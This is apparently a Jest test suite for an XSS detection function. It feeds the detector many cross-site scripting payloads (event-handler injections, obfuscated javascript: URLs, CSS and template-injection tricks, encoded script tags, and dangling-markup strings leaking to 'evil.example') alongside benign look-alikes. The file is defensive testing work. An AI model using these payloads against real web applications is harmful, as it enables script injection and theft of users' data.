import { detectXss } from './xssDetector';

function fingerprint(value: string): string | undefined {
  return detectXss(value)?.fingerprint;
}

describe('detectXss in HTML text', () => {
  it('names the tag and the handler of an event-handler attribute', () => {
    const m = detectXss('<img src=x onerror=alert(1)>');
    expect(m?.fingerprint).toBe('tag:img+handler:onerror');
    expect(m?.reason).toBe('event handler onerror on <img>');
    expect(m?.fragment).toBe('<img src=x onerror=alert(1)');
  });

  it('reads attributes the way a browser does, whatever the spelling', () => {
    expect(fingerprint('<svg/onload=alert(1)>')).toBe('tag:svg+handler:onload');
    expect(fingerprint('<SVG OnLoAd=alert(1)>')).toBe('tag:svg+handler:onload');
    expect(fingerprint('<svg\nonload\t=\talert(1)>')).toBe('tag:svg+handler:onload');
    expect(fingerprint('<img src="x"onerror="alert(1)">')).toBe('tag:img+handler:onerror');
    expect(fingerprint('<svg onload=alert(1)//')).toBe('tag:svg+handler:onload');
  });

  it('judges handlers on elements it has never heard of, reported as custom', () => {
    expect(fingerprint('<zzz onpointerenter=go()>')).toBe('tag:custom+handler:onpointerenter');
    expect(fingerprint('<x onfutureevent=go()>')).toBe('tag:custom+handler:on*');
  });

  it('ignores handler attributes that hold nothing', () => {
    expect(detectXss('<img src="https://cdn.example.com/x.png" onerror="">')).toBeUndefined();
    expect(detectXss('Use <img onerror> with care')).toBeUndefined();
  });

  it('flags script elements, also when a filter-stripping nest hides them', () => {
    expect(fingerprint('<script>alert(1)</script>')).toBe('tag:script');
    expect(fingerprint('<scr<script>ipt>alert(1)</script>')).toBe('tag:script');
    expect(fingerprint('<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>')).toBe('tag:script');
  });

  it('judges values with NUL bytes as the browser sees them without the NULs', () => {
    expect(fingerprint('<scr\0ipt>alert(1)</script>')).toBe('tag:script');
    expect(fingerprint('<a href="java\0script:alert(1)">x</a>')).toBe('tag:a+scheme:javascript');
  });

  it('finds tags hidden inside other tags attribute values', () => {
    expect(fingerprint('<noscript><p title="</noscript><img src=x onerror=alert(1)>">')).toBe('tag:img+handler:onerror');
  });

  it('flags srcdoc documents, plugin content, rebasing and meta refresh', () => {
    expect(fingerprint('<iframe srcdoc="<b>x</b>"></iframe>')).toBe('tag:iframe+srcdoc');
    expect(fingerprint('<embed src=//x.invalid/a.swf>')).toBe('tag:embed');
    expect(fingerprint('<base href="//x.invalid/">')).toBe('tag:base+href');
    expect(fingerprint('<meta http-equiv="refresh" content="0;url=//x.invalid">')).toBe('tag:meta+http-equiv');
  });

  it('leaves frames of other sites alone: their script runs in their own origin', () => {
    expect(detectXss('<iframe src="https://www.youtube-nocookie.com/embed/abc" allowfullscreen></iframe>')).toBeUndefined();
  });

  it('flags names that clobber DOM methods on elements with named access', () => {
    expect(fingerprint('<form id=x><input name=attributes>')).toBe('tag:input+clobber:name');
    expect(fingerprint('<img name=getElementById>')).toBe('tag:img+clobber:name');
    expect(detectXss('<input name="email"><img name="hero">')).toBeUndefined();
    expect(detectXss('<section id="body">x</section>')).toBeUndefined();
  });
});

describe('detectXss for script-capable URLs', () => {
  it('sees javascript: through case, whitespace, control characters and character references', () => {
    for (const href of ['JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', ' &#14; javascript:alert(1)', '&#106;avascript:alert(1)', 'jav&#x09;ascript:alert(1)', 'javascript&colon;alert&lpar;1&rpar;', '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)']) {
      expect(fingerprint(`<a href="${href}">x</a>`)).toBe('tag:a+scheme:javascript');
    }
  });

  it('flags data: documents but not data: images', () => {
    expect(fingerprint('<object data="data:text/html;base64,PHNjcmlwdD4=">')).toBe('tag:object+scheme:data-html');
    expect(fingerprint('<embed src="data:image/svg+xml;base64,PHN2Zz4=">')).toBe('tag:embed+scheme:data-svg');
    expect(detectXss('<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="icon">')).toBeUndefined();
    expect(detectXss('<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">')).toBeUndefined();
  });

  it('finds the URL where meta refresh and SVG animation put it', () => {
    expect(fingerprint('<meta content="0;url=javascript:alert(1)">')).toBe('tag:meta+scheme:javascript');
    expect(fingerprint('<svg><animate attributeName=href values="x;javascript:alert(1)"/>')).toBe('tag:animate+scheme:javascript');
  });

  it('lets do-nothing links through', () => {
    expect(detectXss('<a href="javascript:void(0)">More</a>')).toBeUndefined();
    expect(detectXss('<a href="javascript:;">Menu</a>')).toBeUndefined();
  });

  it('needs code after the scheme when the whole value is the URL', () => {
    expect(fingerprint('javascript:alert(1)')).toBe('value+scheme:javascript');
    expect(fingerprint('javascript://comment\nalert(1)')).toBe('value+scheme:javascript');
    expect(detectXss('JavaScript: The Good Parts')).toBeUndefined();
    expect(detectXss('javascript: how to deep clone an object?')).toBeUndefined();
  });

  it('opens base64 data URLs that may carry markup', () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').toString('base64');
    expect(fingerprint(`data:image/svg+xml;base64,${svg}`)).toBe('data-url+tag:svg+handler:onload');
    const plain = Buffer.from('<svg viewBox="0 0 1 1"><circle r="1"/></svg>').toString('base64');
    expect(detectXss(`data:image/svg+xml;base64,${plain}`)).toBeUndefined();
  });

  it('flags markdown links to script URLs', () => {
    expect(fingerprint('[click](javascript:alert(1))')).toBe('markdown-link+scheme:javascript');
    expect(detectXss('[docs](https://example.com/docs?q=a(b))')).toBeUndefined();
  });
});

describe('detectXss for CSS', () => {
  it('undoes comments and escapes before judging', () => {
    expect(fingerprint('<p style="x:expr/**/ession(alert(1))">')).toBe('tag:p+css:expression');
    expect(fingerprint('<p style="x:\\65 xpression(alert(1))">')).toBe('tag:p+css:expression');
    expect(fingerprint("<div style=\"background:url('javascript:alert(1)')\">")).toBe('tag:div+css:url-javascript');
    expect(fingerprint('<style>@import "//x.invalid/a.css";</style>')).toBe('tag:style+css:import');
  });

  it('leaves ordinary styling alone', () => {
    expect(detectXss('<div style="background-image: url(https://cdn.example.com/bg.jpg); color: #333">x</div>')).toBeUndefined();
  });
});

describe('detectXss inside an attribute', () => {
  it('flags a value that breaks out of a quoted attribute into a handler', () => {
    expect(fingerprint('" onmouseover="alert(1)')).toBe('attr+handler:onmouseover');
    expect(fingerprint("' autofocus onfocus='alert(1)")).toBe('attr+handler:onfocus');
    expect(fingerprint('"><svg onload=alert(1)>')).toBe('tag:svg+handler:onload');
  });

  it('flags a value that adds a handler to an unquoted attribute', () => {
    expect(fingerprint('x onmouseover=alert(1)')).toBe('attr+handler:onmouseover');
  });

  it('needs code in the handler when there is no tag around it', () => {
    expect(detectXss('onload=true&debug=1')).toBeUndefined();
    expect(detectXss('x onclick=handler')).toBeUndefined();
  });
});

describe('detectXss inside a JS string', () => {
  it('flags a break out of the string followed by a call', () => {
    expect(fingerprint("';alert(1)//")).toBe('js-string:single+call');
    expect(fingerprint('"-alert(1)-"')).toBe('js-string:double+call');
    expect(fingerprint("\\';top['al'+'ert'](1)//")).toBe('js-string:single+call');
    expect(fingerprint("'-confirm`1`-'")).toBe('js-string:single+call');
    expect(fingerprint("';location='//x.invalid'//")).toBe('js-string:single+call');
  });

  it('reports closing a script block when nothing stronger follows', () => {
    expect(fingerprint('</script>alert(1)//')).toBe('endtag:script');
    expect(fingerprint('</script><script>alert(1)</script>')).toBe('tag:script');
  });

  it('leaves prose and code whose first quote opens a string alone', () => {
    // The last two are random passwords: a quote, an operator and a name with no call that closes.
    for (const value of ["It's a \"must-have\" item.", 'print("hello"); exit(0)', "The \"+\" button(s) add rows", "' OR '1'='1", "O'Brien", '"- see docs (v2)"', 'lmaON)7r`;tU(M', 'lN>ONwk;t`/N9u`g']) {
      expect(detectXss(value)).toBeUndefined();
    }
  });
});

describe('detectXss where the value lands in script unquoted', () => {
  it('flags a value that is nothing but a dialog call', () => {
    expect(fingerprint('alert(1)')).toBe('js-bare+call');
    expect(fingerprint('alert`1`')).toBe('js-bare+call');
    expect(fingerprint('alert(1)//')).toBe('js-bare+call');
    expect(fingerprint("top['confirm'](document.domain);")).toBe('js-bare+call');
  });

  it('leaves prose, other calls and calls that cannot run alone', () => {
    for (const value of ['please alert(1) the team', 'ALERT(1)', 'print("hello")', 'max(1, 2)', 'alert level (high)', 'confirm']) {
      expect(detectXss(value)).toBeUndefined();
    }
  });
});

describe('detectXss for dangling markup', () => {
  it('flags an attribute breakout that leaves a URL to another origin open', () => {
    expect(fingerprint("\"><img src='//evil.example/log?")).toBe('dangling-markup');
    expect(fingerprint("'><a href=\"https://evil.example/?")).toBe('dangling-markup');
  });

  it('leaves an open same-site path, and an open URL without a breakout, alone', () => {
    expect(detectXss("\"><img src='/static/a.png")).toBeUndefined();
    expect(detectXss('<img src="https://cdn.example.com/a.png')).toBeUndefined();
  });
});

describe('detectXss in client-side templates', () => {
  it('flags expressions that reach the Function constructor or call a sink', () => {
    expect(fingerprint("{{constructor.constructor('alert(1)')()}}")).toBe('template:mustache+constructor');
    expect(fingerprint('${alert(1)}')).toBe('template:literal+sink-call');
    expect(fingerprint('<div ng-click="$event.view.alert(1)">')).toBe('tag:div+binding:sink-call');
  });

  it('leaves ordinary template fields alone', () => {
    for (const value of ['Hello {{first_name}}, order {{order.id}} shipped', '{{ formatDate(order.createdAt) }}', 'Total: ${total}', '<li v-for="item in items">{{ item.name }}</li>']) {
      expect(detectXss(value)).toBeUndefined();
    }
  });
});

describe('detectXss through encodings a page undoes', () => {
  it('decodes JS escapes and UTF-7 that hide markup', () => {
    expect(fingerprint('\\x3cscript\\x3ealert(1)\\x3c/script\\x3e')).toBe('js-escape+tag:script');
    expect(fingerprint('\\u003csvg/onload\\u003dalert(1)\\u003e')).toBe('js-escape+tag:svg+handler:onload');
    expect(fingerprint('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')).toBe('utf7+tag:script');
    expect(detectXss('printf("%s\\x3c", s)')).toBeUndefined();
  });
});

describe('detectXss on benign look-alikes', () => {
  it('stays quiet on safe rich text, comparisons, display names and generics', () => {
    for (const value of [
      '<p>Hello <b>world</b></p>',
      '<a href="https://example.com">link</a>',
      '<img src="https://cdn.example.com/a.png" alt="x">',
      '<ul><li>one</li><li>two</li></ul>',
      'a < b and c > d',
      'x<3',
      '<3 love it',
      'Jane <jane@example.com>',
      'Map<String, List<Integer>>',
      'The onload event fires after images load',
      'https://example.com/search?q=script&sort=asc',
      '{"html":"<p>Hi</p>","n":1}',
      'rgba(0,0,0,0.5)',
      '🎉 <3',
      '<script',
    ]) {
      expect(detectXss(value)).toBeUndefined();
    }
  });

  it('bounds the reported fragment', () => {
    const m = detectXss(`<img src=x onerror="${'a'.repeat(500)}()">`);
    expect(m?.fragment.length).toBe(120);
  });

  it('survives hostile shapes without throwing', () => {
    for (const value of ['<a'.repeat(5000), "<a x='".repeat(3000), '&#'.repeat(4000), '{{'.repeat(4000), "';(".repeat(3000), '\\u{110000}\\x3c', '+ADw-'.repeat(100), '<']) {
      expect(() => detectXss(value)).not.toThrow();
    }
  });
});
